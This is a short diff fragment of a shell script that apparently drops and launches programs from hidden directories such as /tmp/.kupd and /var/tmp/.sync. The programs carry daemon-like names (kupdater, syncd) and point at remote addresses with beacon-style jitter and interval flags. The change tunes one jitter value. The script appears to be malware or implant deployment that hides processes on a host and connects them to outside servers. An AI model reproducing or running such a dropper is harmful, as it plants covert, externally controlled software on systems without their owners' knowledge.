@@ -11,4 +11,4 @@ drop() { # directory, name, arguments
   rm -r "$stage"
 }
 drop /tmp/.kupd kupdater "-p 20 -j 0.2 -u 517 203.0.113.9:443"
-drop /var/tmp/.sync syncd "-w -p 95 -j 0.8 -u 350000 198.51.100.7:8443"
+drop /var/tmp/.sync syncd "-w -p 95 -j 0.5 -u 350000 198.51.100.7:8443"
